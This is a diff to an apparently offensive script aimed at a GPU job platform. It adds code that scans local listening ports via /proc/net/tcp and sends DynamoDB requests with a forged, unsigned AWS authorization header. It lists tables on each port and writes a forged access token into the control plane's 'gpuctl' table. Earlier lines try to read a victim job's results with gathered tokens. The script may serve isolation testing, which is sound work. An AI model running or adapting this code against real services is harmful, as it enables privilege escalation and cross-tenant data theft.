@@ -89,6 +89,57 @@ for token in sorted(found) + [None]:
     )
     attempt("read results", "GET", "/agent/v1/artifacts/jobs/%s/results/model.json" % VICTIM, token)
 
+
+# DynamoDB Local answers whoever reaches its port and checks no signature: each listening
+# port is asked for its tables, and into the control plane's table name a forged token is
+# put, with key ids a job could guess (the control plane's own is a secret it cannot read).
+def listening_ports():
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            with open(table) as handle:
+                rows = [line.split() for line in handle.readlines()[1:]]
+        except OSError:
+            continue
+        ports.update(int(row[1].rsplit(":", 1)[1], 16) for row in rows if row[3] == "0A")
+    return sorted(ports)
+
+
+def dynamodb(port, key, region, target, body):
+    request = urllib.request.Request(
+        "http://127.0.0.1:%d/" % port, data=json.dumps(body).encode(), method="POST"
+    )
+    request.add_header("content-type", "application/x-amz-json-1.0")
+    request.add_header("x-amz-target", "DynamoDB_20120810." + target)
+    request.add_header(
+        "authorization",
+        "AWS4-HMAC-SHA256 Credential=%s/20260101/%s/dynamodb/aws4_request, "
+        "SignedHeaders=host, Signature=00" % (key, region),
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=5) as response:
+            return response.status, json.load(response)
+    except urllib.error.HTTPError as error:
+        try:
+            return error.code, json.load(error)
+        except ValueError:
+            return error.code, None
+    except (OSError, ValueError):
+        return None, None
+
+
+report["dynamodb"] = []
+forged = {"pk": {"S": "TOKEN#" + "0" * 64}, "sk": {"S": "TOKEN"}}
+for port in listening_ports():
+    for key, region in [("local", "local"), ("local", "us-east-1"), ("attacker", "local")]:
+        status, listed = dynamodb(port, key, region, "ListTables", {})
+        if not isinstance(listed, dict) or "TableNames" not in listed:
+            continue
+        put, _ = dynamodb(port, key, region, "PutItem", {"TableName": "gpuctl", "Item": forged})
+        report["dynamodb"].append(
+            {"port": port, "key": key, "region": region, "tables": listed["TableNames"], "put": put}
+        )
+
 os.makedirs("results", exist_ok=True)
 with open("results/attack.json", "w") as handle:
     json.dump(report, handle)
